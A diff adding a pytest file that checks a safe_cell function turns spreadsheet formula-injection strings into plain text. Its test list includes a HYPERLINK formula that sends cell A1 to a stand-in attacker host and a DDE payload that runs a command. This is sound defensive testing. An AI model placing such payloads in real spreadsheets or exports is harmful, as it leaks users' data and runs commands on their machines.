@@ -1,0 +1,28 @@
+"""Cells that a spreadsheet would run as formulas are written as text, whatever comes first."""
+
+from __future__ import annotations
+
+import pytest
+
+from equityhub.core.spreadsheet import safe_cell
+
+ATTACKS = [
+    '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+]
+
+
+@pytest.mark.parametrize("value", ATTACKS)
+def test_formula_starts_are_made_text(value: str) -> None:
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["", "NHS England", "2024-25", " =not first", "1e3"])
+def test_ordinary_cells_are_unchanged(value: str) -> None:
+    assert safe_cell(value) == value
